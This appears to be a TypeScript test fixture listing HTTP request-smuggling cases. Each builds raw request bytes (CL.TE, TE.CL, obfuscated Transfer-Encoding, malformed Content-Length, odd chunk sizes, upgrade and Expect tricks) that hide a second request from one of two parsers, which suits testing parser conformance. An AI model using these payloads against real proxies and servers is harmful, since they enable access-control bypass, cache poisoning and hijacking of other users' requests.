// Requests that two parsers may cut at different places: what one takes for a body, or for a part of a head, is a request for
// the other. As data: each is the bytes around a hidden request.

export interface Piece {
  /** Where the request goes that carries the other. */
  readonly path: string;
  /** Lines that it needs, Host among them, each with its CR LF. */
  readonly lines: string;
  /** A whole request. */
  readonly hidden: string;
}

export interface SmugglingCase {
  readonly name: string;
  readonly bytes: (piece: Piece) => string;
  /**
   * RFC 9112 makes the hidden request one of its own (pipelining): it may take effect where the proxy took it for one as well.
   * Default false: it is never one.
   */
  readonly pipelined?: true;
}

const hex = (text: string): string =>
  Buffer.byteLength(text, "latin1").toString(16);

/** A POST with these lines besides its own. */
const post =
  (
    lines: (hidden: string) => string,
    body: (hidden: string) => string,
    version = "1.1",
  ): SmugglingCase["bytes"] =>
  ({ path, lines: own, hidden }) =>
    `POST ${path} HTTP/${version}\r\n${own}${lines(hidden)}\r\n\r\n${body(hidden)}`;

/** A body that ends at once for who reads chunks. */
const afterLastChunk = (hidden: string): string => `0\r\n\r\n${hidden}`;
const asIs = (hidden: string): string => hidden;
const lengthOf = (body: string): string => `Content-Length: ${body.length}`;

/** All is the body by Content-Length; who hears "chunked" in `line` ends it before the hidden request. */
const besideLength = (name: string, line: string): SmugglingCase => ({
  name,
  bytes: post(
    (hidden) => `${lengthOf(afterLastChunk(hidden))}\r\n${line}`,
    afterLastChunk,
  ),
});
/** The other way round: the hidden request is in a chunk, and Content-Length ends before it. */
const inChunk = (name: string, line: string): SmugglingCase => ({
  name,
  bytes: post(
    (hidden) => `Content-Length: ${hex(hidden).length + 2}\r\n${line}`,
    (hidden) => `${hex(hidden)}\r\n${hidden}\r\n0\r\n\r\n`,
  ),
});
const lengths = (
  name: string,
  lines: (length: number) => string,
): SmugglingCase => ({
  name,
  bytes: post((hidden) => lines(hidden.length), asIs),
});
const chunked = (
  name: string,
  body: (hidden: string) => string,
): SmugglingCase => ({
  name,
  bytes: post(() => "Transfer-Encoding: chunked", body),
});
/** A head with something odd in it, and an honest length. */
const head = (name: string, line: string): SmugglingCase => ({
  name,
  bytes: post((hidden) => `${line}\r\n${lengthOf(hidden)}`, asIs),
});
/** A chunk whose size is written in an odd way. */
const sized = (name: string, size: (hex: string) => string): SmugglingCase =>
  chunked(name, (hidden) => `${size(hex(hidden))}\r\n${hidden}\r\n0\r\n\r\n`);

const UPGRADE =
  "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==";

export const smugglingCases: readonly SmugglingCase[] = [
  besideLength("CL.TE", "Transfer-Encoding: chunked"),
  inChunk("TE.CL", "Transfer-Encoding: chunked"),
  besideLength("TE in capitals", "TRANSFER-ENCODING: CHUNKED"),
  besideLength("TE: xchunked", "Transfer-Encoding: xchunked"),
  besideLength(
    "TE with a space before the colon",
    "Transfer-Encoding : chunked",
  ),
  besideLength("TE with a tab", "Transfer-Encoding:\tchunked"),
  besideLength("TE with a vertical tab", "Transfer-Encoding: \u000bchunked"),
  besideLength("TE with a NUL behind it", "Transfer-Encoding: chunked\0"),
  besideLength("TE in quotes", 'Transfer-Encoding: "chunked"'),
  besideLength("TE behind a bare LF", "X: y\nTransfer-Encoding: chunked"),
  besideLength("TE behind a bare CR", "X: y\rTransfer-Encoding: chunked"),
  besideLength("TE in a folded line", "X: y\r\n Transfer-Encoding: chunked"),
  besideLength("TE folded before its colon", "Transfer-Encoding\r\n : chunked"),
  besideLength("TE folded in its value", "Transfer-Encoding: chun\r\n ked"),
  besideLength("TE folded to the next line", "Transfer-Encoding:\r\n chunked"),
  besideLength(
    "TE twice, one unknown",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
  ),
  besideLength("TE: chunked, identity", "Transfer-Encoding: chunked, identity"),
  besideLength("TE: identity", "Transfer-Encoding: identity"),
  inChunk("TE: x, chunked", "Transfer-Encoding: x, chunked"),
  besideLength("Transfer_Encoding", "Transfer_Encoding: chunked"),
  besideLength("TE with a byte above 0x7f", "Transfer-Encoding\u00a0: chunked"),
  {
    name: "TE that is not chunked, no CL",
    bytes: post(() => "Transfer-Encoding: gzip", asIs),
  },
  lengths(
    "two CL, nothing first",
    (n) => `Content-Length: 0\r\nContent-Length: ${n}`,
  ),
  lengths(
    "two CL, nothing last",
    (n) => `Content-Length: ${n}\r\nContent-Length: 0`,
  ),
  lengths("two CL in one line", (n) => `Content-Length: 0, ${n}`),
  lengths("CL with a plus", (n) => `Content-Length: +${n}`),
  lengths("CL below nothing", () => "Content-Length: -1"),
  lengths("CL in hexadecimal", (n) => `Content-Length: 0x${n.toString(16)}`),
  lengths("CL with a space in it", (n) => `Content-Length: 0 ${n}`),
  lengths("CL with a space before the colon", (n) => `Content-Length : ${n}`),
  lengths("CL above 2^64", (n) => `Content-Length: ${2n ** 64n + BigInt(n)}`),
  lengths("CL folded to the next line", (n) => `Content-Length:\r\n ${n}`),
  head("two Hosts", "Host: localhost"),
  head("a NUL in a name", "X\0Y: z"),
  head("a byte above 0x7f in a name", "X\u00ffY: z"),
  head("a bracket in a name", "X(Y: z"),
  head("a line without a colon", "nothing"),
  head("an empty name", ": nothing"),
  {
    name: "absolute form, another host",
    bytes: ({ path, lines, hidden }) =>
      `POST http://elsewhere.invalid${path} HTTP/1.1\r\n${lines}${lengthOf(hidden)}\r\n\r\n${hidden}`,
  },
  {
    name: "LF-only line ends",
    bytes: (piece) =>
      post(lengthOf, () => "")(piece).replaceAll("\r\n", "\n") + piece.hidden,
  },
  {
    name: "a head that ends with two LF, for some",
    bytes: post(
      (hidden) => `X: y\n\n${hidden.trimEnd()}`,
      () => "",
    ),
    pipelined: true,
  },
  {
    name: "a head that ends with CR CR, for some",
    bytes: post(
      (hidden) => `X: y\r\r${hidden.trimEnd()}`,
      () => "",
    ),
  },
  chunked(
    "chunk extension",
    (hidden) => `${hex(hidden)};a="b"\r\n${hidden}\r\n0\r\n\r\n`,
  ),
  chunked(
    "chunk extension with a bare LF",
    (hidden) => `1;\nx\r\n${hex(hidden)}\r\n${hidden}\r\n0\r\n\r\n`,
  ),
  chunked(
    "chunk extension with a line in quotes",
    (hidden) => `1;a="\r\n${hidden}"\r\nx\r\n0\r\n\r\n`,
  ),
  sized("chunk size with a plus", (size) => `+${size}`),
  sized("chunk size below nothing", (size) => `-${size}`),
  sized("chunk size with 0x", (size) => `0x${size}`),
  sized("chunk size above 2^64", (size) => `1${size.padStart(16, "0")}`),
  sized("chunk size with a space before it", (size) => ` ${size}`),
  sized("chunk size with an underscore", (size) => `0_${size}`),
  sized("no chunk size", () => ""),
  chunked("chunk without its end", (hidden) => `1\r\nx0\r\n\r\n${hidden}`),
  chunked(
    "chunk longer than it says",
    (hidden) => `1\r\nxx\r\n0\r\n\r\n${hidden}`,
  ),
  {
    ...chunked("last chunk with bare LF", (hidden) => `0\n\n${hidden}`),
    pipelined: true,
  },
  {
    ...chunked(
      "a length in the trailer",
      (hidden) => `0\r\n${lengthOf(hidden)}\r\n\r\n${hidden}`,
    ),
    pipelined: true,
  },
  {
    name: "HTTP/1.0 with chunks",
    bytes: post(
      () => "Connection: keep-alive\r\nTransfer-Encoding: chunked",
      afterLastChunk,
      "1.0",
    ),
  },
  {
    name: "HTTP/1.0 with chunks and CL",
    bytes: post(
      (hidden) =>
        `Connection: keep-alive\r\n${lengthOf(afterLastChunk(hidden))}\r\nTransfer-Encoding: chunked`,
      afterLastChunk,
      "1.0",
    ),
  },
  {
    name: "HTTP/0.9",
    bytes: ({ path, hidden }) => `GET ${path}\r\n${hidden}`,
  },
  {
    name: "the first words of HTTP/2",
    bytes: ({ hidden }) => `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${hidden}`,
  },
  {
    name: "CONNECT",
    bytes: ({ lines, hidden }) =>
      `CONNECT 127.0.0.1:80 HTTP/1.1\r\n${lines}\r\n${hidden}`,
  },
  {
    name: "upgrade of an unknown version",
    bytes: ({ lines, hidden }) =>
      `GET /ws HTTP/1.1\r\n${lines}${UPGRADE}\r\nSec-WebSocket-Version: 777\r\n\r\n${hidden}`,
    pipelined: true,
  },
  {
    name: "upgrade without a version, with a body",
    bytes: ({ lines, hidden }) =>
      `GET /ws HTTP/1.1\r\n${lines}${UPGRADE}\r\n${lengthOf(hidden)}\r\n\r\n${hidden}`,
  },
  {
    name: "upgrade to h2c",
    bytes: post(
      (hidden) =>
        `Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n${lengthOf(hidden)}`,
      asIs,
    ),
  },
  head("Expect with a body at once", "Expect: 100-continue"),
  head("an odd Expect", "Expect: y 100-continue"),
  {
    name: "GET with a body",
    bytes: ({ path, lines, hidden }) =>
      `GET ${path} HTTP/1.1\r\n${lines}${lengthOf(hidden)}\r\n\r\n${hidden}`,
  },
  {
    name: "HEAD with a body",
    bytes: ({ path, lines, hidden }) =>
      `HEAD ${path} HTTP/1.1\r\n${lines}${lengthOf(hidden)}\r\n\r\n${hidden}`,
  },
  {
    name: "hop-by-hop CL",
    bytes: post(
      (hidden) =>
        `Connection: keep-alive, Content-Length\r\n${lengthOf(hidden)}`,
      asIs,
    ),
  },
  {
    name: "hop-by-hop TE",
    bytes: post(
      () =>
        "Connection: keep-alive, Transfer-Encoding\r\nTransfer-Encoding: chunked",
      (hidden) => `${hex(hidden)}\r\n${hidden}\r\n0\r\n\r\n`,
    ),
  },
  {
    name: "data behind a body",
    bytes: post(
      () => "Content-Length: 1",
      (hidden) => `x${hidden}`,
    ),
    pipelined: true,
  },
  {
    name: "the begin of a request behind a body",
    bytes: post(
      () => "Content-Length: 1",
      (hidden) => `x${hidden.slice(0, hidden.indexOf("\r\n") + 2)}X: `,
    ),
    pipelined: true,
  },
];
